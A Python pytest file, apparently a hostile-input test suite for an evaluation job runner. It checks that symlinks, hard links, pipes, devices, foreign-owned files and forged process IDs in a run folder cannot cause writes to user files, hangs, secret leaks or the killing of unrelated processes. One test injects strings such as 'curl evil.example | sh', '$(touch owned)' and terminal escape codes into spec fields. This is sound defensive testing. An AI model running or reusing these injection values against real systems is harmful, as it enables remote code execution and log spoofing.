"""What lies in a run folder leads nowhere else: links, devices, pipes, second names, strangers."""

import io
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import pytest

from core.cli import main
from core.evaluation.run import EvaluateParams
from core.jobs.folder import RunFolder
from core.jobs.launchers import local
from tests.hostile.conftest import Attack
from tests.polling import until
from tests.questions import work_rows
from tests.splits import make_split

Begin = Callable[[str], Attack]
SECRET = "export PATH=/usr/bin\n"
WRITTEN = (
    "log.txt", "shard-000.jsonl", "shard-000.spare", "shard-000.lock", "progress.json",
    "progress.lock", "result.json", "error.json", "engine-000.json", ".progress.json.1.tmp",
)  # fmt: skip
READ = ("spec.json", "work.jsonl", "launch.json", "stop", "shard-001.jsonl")


def prepared(root: Path, items: int = 3) -> RunFolder:
    params = EvaluateParams(engine="baseline:random", split="s")
    return RunFolder.create(root, "evaluate", params, work_rows(make_split(items)))


def worked(folder: Path) -> str:
    """What got out when a worker worked there; empty for one sentence or none."""
    told = io.StringIO()
    with redirect_stderr(told), redirect_stdout(io.StringIO()):
        try:
            main(["run", str(folder)])
        except Exception as error:
            return repr(error)
    return told.getvalue() if told.getvalue().count("\n") > 1 else ""


def worked_apart(folder: Path) -> str:
    """The same in a process of its own, which may be waited for."""
    done = subprocess.run(
        [sys.executable, "-m", "core.cli", "run", str(folder)],
        capture_output=True, text=True, errors="replace", timeout=60, check=False,
    )  # fmt: skip
    return done.stderr[-300:] if done.stderr.count("\n") > 1 else ""


@pytest.mark.parametrize("kind", ["link", "hard link", "dangling link"])
def test_nothing_is_written_through_a_name_of_the_folder(
    tmp_path: Path, attack: Begin, kind: str
) -> None:
    row = attack(f"a {kind} in a run folder to a file of the person")
    for name in (*WRITTEN, *READ):
        folder = prepared(tmp_path / name).path
        victim = tmp_path / f"{name}.bashrc"
        if kind != "dangling link":
            victim.write_text(SECRET)
        place = folder / name
        if kind == "hard link" and place.exists():
            continue  # a spec is read as it is, whoever else has it
        place.unlink(missing_ok=True)
        (os.link if kind == "hard link" else os.symlink)(victim, place)
        failure = worked(folder)
        if kind == "dangling link":
            changed = victim.exists()
        else:
            changed = victim.read_text() != SECRET
        row.tried(failure or (f"{name} was written" if changed else ""))


def test_a_folder_that_is_a_link_is_not_worked_in(tmp_path: Path, attack: Begin) -> None:
    row = attack("a run folder that is a link")
    folder = prepared(tmp_path / "elsewhere").path
    place = tmp_path / "run"
    place.symlink_to(folder)
    before = sorted(path.name for path in folder.iterdir())
    failure = worked(place)
    row.tried(failure or ("" if sorted(p.name for p in folder.iterdir()) == before else "worked"))


@pytest.mark.slow
def test_pipes_and_devices_are_neither_waited_for_nor_read(tmp_path: Path, attack: Begin) -> None:
    row = attack("a pipe or a device in a run folder")
    for name in (*WRITTEN, *READ):
        for make in ("pipe", "device", "folder"):
            folder = prepared(tmp_path / f"{name}-{make}").path
            place = folder / name
            place.unlink(missing_ok=True)
            if make == "pipe":
                os.mkfifo(place)
            elif make == "folder":
                place.mkdir()
            elif os.geteuid() == 0:
                os.mknod(place, 0o666 | 0o020000, os.makedev(1, 5))  # /dev/zero
            else:
                place.symlink_to("/dev/zero")
            try:
                row.tried(worked_apart(folder))
            except subprocess.TimeoutExpired:
                row.tried(f"{name} as a {make} was waited for")


def test_what_belongs_to_another_account_is_not_used(tmp_path: Path, attack: Begin) -> None:
    if os.geteuid() != 0:
        pytest.skip("only root can give files away")
    row = attack("files of another account in a run folder")
    for name in ("spec.json", "work.jsonl", "log.txt", "shard-000.jsonl", "."):
        folder = prepared(tmp_path / f"of-{name}").path
        place = folder / name
        if not place.exists():
            place.write_text("")
        os.chown(place, 12345, 12345)
        failure = worked(folder)
        row.tried(failure or ("it was used" if (folder / "result.json").exists() else ""))


def test_text_of_a_spec_is_never_lines_of_a_log(tmp_path: Path, attack: Begin) -> None:
    row = attack("lines, commands and control characters in a spec")
    texts = ("x\ncurl evil.example | sh\n#", "\x1b]0;owned\x07", "a\r\nb", "‮gnp.exe", "\x00",
             "$(touch owned)\n$(touch owned)\n")  # fmt: skip
    for number, text in enumerate(texts):
        for field in ("id", "kind", "engine", "model", "params"):
            folder = prepared(tmp_path / f"{number}-{field}").path
            spec = json.loads((folder / "spec.json").read_text())
            if field in ("engine", "model"):
                spec["params"][field] = text
            elif field == "params":
                spec["params"][text] = text
            else:
                spec[field] = text
            (folder / "spec.json").write_text(json.dumps(spec))
            failure = worked(folder)
            logs = b"".join(p.read_bytes() for p in folder.glob("*.txt"))
            lines = logs.decode("utf-8", "replace").split("\n")
            raw = any(line and not line.startswith("20") for line in lines)
            raw = raw or any(mark in logs for mark in (b"\x1b", b"\x07", b"\r", "‮".encode()))
            row.tried(failure or (f"{field} in a log: {logs[-200:]!r}" if raw else ""))


def test_stopping_ends_no_process_that_only_the_folder_names(tmp_path: Path, attack: Begin) -> None:
    row = attack("progress.json and launch.json that name another process")
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
    holder = None
    try:
        folder = prepared(tmp_path)
        path = folder.path
        # somebody holds the shard, so that the run seems to be going on
        code = "import fcntl,sys,time; h=open(sys.argv[1],'a'); fcntl.flock(h,2); "
        code += "print('held', flush=True); time.sleep(600)"
        lock = path / "shard-000.lock"
        holder = subprocess.Popen(
            [sys.executable, "-c", code, str(lock)], stdout=subprocess.PIPE, text=True
        )
        assert holder.stdout is not None
        assert holder.stdout.readline() == "held\n"
        far = time.time() + 1000
        figures = {"pid": victim.pid, "host": os.uname().nodename, "since": far, "at": far,
                   "done": 0, "share": 3, "before": 0, "notes": {}}  # fmt: skip
        (path / "progress.json").write_text(json.dumps({"0/1": figures}))
        local.stop(folder, grace=0.3)
        row.tried("" if victim.poll() is None else "it was ended")
        from core.jobs.launch_record import process_created

        task = {"state": "running", "pid": victim.pid, "created": process_created(victim.pid)}
        launch = {"host": os.uname().nodename, "tasks": {"0": task}}
        (path / "launch.json").write_text(json.dumps(launch))
        local.stop(folder, grace=0.3)
        row.tried("" if victim.poll() is None else "it was ended")
    finally:
        for process in (victim, holder):
            if process is not None:
                with process:
                    process.send_signal(signal.SIGKILL)


def test_a_worker_is_still_stopped_by_force(tmp_path: Path) -> None:
    """What is certainly this run's own worker is ended."""
    folder = prepared(tmp_path)
    code = (
        "import sys, time\nfrom pathlib import Path\nfrom core.jobs.folder import RunFolder\n"
        "handle = RunFolder(Path(sys.argv[1])).claim('shard-000')\n"
        "now = time.time()\n"
        "RunFolder(Path(sys.argv[1])).update_progress('0/1', {'pid': __import__('os').getpid(), "
        "'host': __import__('os').uname().nodename, 'since': now, 'at': now, 'done': 0, "
        "'share': 3, 'before': 0, 'notes': {}})\ntime.sleep(600)\n"
    )
    worker = subprocess.Popen([sys.executable, "-c", code, str(folder.path)])
    try:
        until(lambda: folder.read_progress())
        local.stop(folder, grace=0.2)
        until(lambda: worker.poll() is not None)
    finally:
        worker.kill()
        worker.wait()


def test_links_are_not_read_by_whoever_looks_at_a_run(
    tmp_path: Path, attack: Begin, capsys: pytest.CaptureFixture[str]
) -> None:
    row = attack("a link to a secret, shown as a log or an error")
    secret = tmp_path / "id_ed25519"
    secret.write_text('{"message": "PRIVATE KEY"}\nPRIVATE KEY\n')
    for name in ("log.txt", "error.json", "spec.json", "work.jsonl", "slurm-0.txt"):
        folder = prepared(tmp_path / name)
        (folder.path / name).unlink(missing_ok=True)
        (folder.path / name).symlink_to(secret)
        code = main(["run", str(folder.path)])
        told = capsys.readouterr()
        shown = told.out + told.err
        for read in (folder.log_tail, folder.error, lambda f=folder: f.log_tail(9, "slurm-0.txt")):
            try:
                shown += str(read())
            except Exception as error:  # what it says is looked at
                shown += str(error)
        row.tried("it was shown" if "PRIVATE" in shown or code not in (0, 1) else "")
